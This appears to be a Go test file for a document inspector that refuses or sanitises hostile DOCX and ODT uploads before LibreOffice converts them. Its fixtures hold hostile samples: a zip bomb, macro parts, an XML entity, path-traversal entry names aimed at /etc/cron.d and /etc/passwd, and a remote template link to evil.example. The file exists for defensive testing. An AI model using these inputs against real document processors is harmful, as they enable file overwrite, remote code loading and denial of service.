package inspect

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"approdo/app/inspect/inspecttest"
)

// archive is a ZIP of parts, those with "!" before their name first and stored.
func archive(t testing.TB, parts map[string]string) []byte {
	t.Helper()
	var names []string
	for name := range parts {
		names = append(names, name)
	}
	slices.Sort(names)
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range names {
		h := &zip.FileHeader{Name: name, Method: zip.Deflate}
		if name[0] == '!' {
			h.Name, h.Method = name[1:], zip.Store
		}
		w, err := z.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(parts[name])); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// zipBomb is a DOCX with a part that unpacks to 200 MB.
func zipBomb(testing.TB) []byte { return inspecttest.DOCXBomb(200 << 20) }

// wordParts are the parts of the smallest DOCX that says text.
func wordParts(text string) map[string]string {
	const head = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`
	return map[string]string{
		"[Content_Types].xml": head + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
		"_rels/.rels":         head + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
		"word/document.xml":   head + `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>` + text + `</w:t></w:r></w:p></w:body></w:document>`,
	}
}

// officeWith is an inspector that believes there is a LibreOffice, which is never started:
// the document is refused before.
func officeWith(t testing.TB) *Inspector {
	return inspector(t, func(o *Options) { o.Soffice = "/bin/false" })
}

// TestHostileTextDocuments are refused before LibreOffice sees them.
func TestHostileTextDocuments(t *testing.T) {
	unraced(t)
	i := officeWith(t)
	with := func(name, content string) []byte {
		parts := wordParts("x")
		parts[name] = content
		return archive(t, parts)
	}
	many := wordParts("x")
	for n := range 4000 {
		many[fmt.Sprintf("word/media/%d.png", n)] = "x"
	}
	double := wordParts("x")
	double["word/a.rels"] = "<a/>"
	twice := archive(t, double)
	twice = bytes.ReplaceAll(twice, []byte("_rels/.rels"), []byte("word/a.rels"))
	odt := map[string]string{"!mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}
	odtMacro := maps.Clone(odt)
	odtMacro["Basic/Standard/Module1.xml"] = "<a/>"
	for what, c := range map[string]struct {
		data []byte
		want string
	}{
		"a part of 200 MB":             {zipBomb(t), refusedHeavy},
		"4000 parts":                   {archive(t, many), refusedHeavy},
		"programs":                     {with("word/vbaProject.bin", "x"), refusedMacros},
		"programs, it says":            {with("[Content_Types].xml", `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`), refusedMacros},
		"an ODT with programs":         {archive(t, odtMacro), refusedMacros},
		"entities":                     {with("word/document.xml", `<!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>`), refusedBroken},
		"another alphabet for its XML": {with("word/document.xml", "\xff\xfe<\x00a\x00/\x00>\x00"), refusedBroken},
		"a name that leads out":        {with("../../etc/cron.d/x", "x"), refusedBroken},
		"a name with a root":           {with("/etc/passwd", "x"), refusedBroken},
		"an archive of something":      {archive(t, map[string]string{"a.txt": "x"}), refusedKind},
		"a table":                      {archive(t, map[string]string{"[Content_Types].xml": "<a/>", "xl/workbook.xml": "<a/>"}), refusedKind},
		"cut off":                      {archive(t, wordParts("x"))[:300], refusedBroken},
		"a program LibreOffice lost":   {archive(t, wordParts("x")), refusedConvert},
		"two parts of one name":        {twice, refusedBroken},
	} {
		if got := refusedAs(t, i, c.data); got != c.want {
			t.Errorf("%s: %q, want %q", what, got, c.want)
		}
	}
}

// TestWhatReachesOutside is taken out of a text document before LibreOffice sees it.
func TestWhatReachesOutside(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	parts := wordParts("x")
	parts["word/_rels/document.xml.rels"] = `<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>` +
		`<Relationship Id="r2" Type="http://x/hyperlink" Target="mailto:a@example.org" TargetMode='External'/><Relationship Id="r3" Type="http://x/styles" Target="styles.xml"/></Relationships>`
	parts["word/embeddings/oleObject1.bin"] = "MZ"
	odt := map[string]string{"!mimetype": "application/vnd.oasis.opendocument.text",
		"content.xml": `<a><draw:image xlink:href="https://evil.example/x.png"/><draw:image xlink:href="Pictures/1.png"/><text:section xlink:href='../../etc/passwd'/>` +
			`<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></a>`}
	for _, c := range []struct {
		parts   map[string]string
		dropped string
		kept    string
	}{{parts, "external files links", "r3"}, {odt, "links scripts", "Pictures/1.png"}} {
		if err := os.WriteFile(input(0), archive(t, c.parts), 0o600); err != nil {
			t.Fatal(err)
		}
		v, err := cleanOffice(input(0))
		if err != nil || strings.Join(v.Dropped, " ") != c.dropped {
			t.Errorf("dropped %q, %v", v.Dropped, err)
		}
		z, err := zip.OpenReader(officeOut + v.Kind)
		if err != nil {
			t.Fatal(err)
		}
		all := ""
		for _, f := range z.File {
			r, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			data, _ := io.ReadAll(r)
			all += f.Name + string(data)
		}
		_ = z.Close()
		for _, bad := range []string{"evil", "External", "oleObject", "passwd", "mailto", "event-listener"} {
			if strings.Contains(all, bad) {
				t.Errorf("%s: %q is still there", v.Kind, bad)
			}
		}
		if !strings.Contains(all, c.kept) {
			t.Errorf("%s: %q is gone", v.Kind, c.kept)
		}
	}
}

// TestTextDocumentsBecomePDFs with a real LibreOffice.
func TestTextDocumentsBecomePDFs(t *testing.T) {
	unraced(t)
	i := inspector(t)
	if i.soffice == "" {
		t.Skip("SKIPPED: no LibreOffice here (apt install --no-install-recommends libreoffice-writer-nogui), no document was converted")
	}
	odt := map[string]string{
		"!mimetype": "application/vnd.oasis.opendocument.text",
		"META-INF/manifest.xml": `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">` +
			`<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
		"content.xml": `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">` +
			`<office:body><office:text><text:p>Esperienza di cameriere</text:p></office:text></office:body></office:document-content>`,
	}
	for kind, data := range map[string][]byte{DOCX: archive(t, wordParts("Esperienza di cameriere")), ODT: archive(t, odt)} {
		began := time.Now()
		m, clean := taken(t, i, data)
		t.Logf("%s in %s", kind, time.Since(began).Round(time.Millisecond))
		if m.Kind != kind || m.Pages != 1 {
			t.Errorf("%s: made %+v", kind, m)
		}
		harmless(t, clean)
		text, err := i.Text(t.Context(), file(t, clean))
		if i.pdftotext != "" && (err != nil || text != "Esperienza di cameriere") {
			t.Errorf("%s: text %q, %v", kind, text, err)
		}
	}
	if left := children(); len(left) > 0 {
		t.Errorf("children left: %v", left)
	}
}
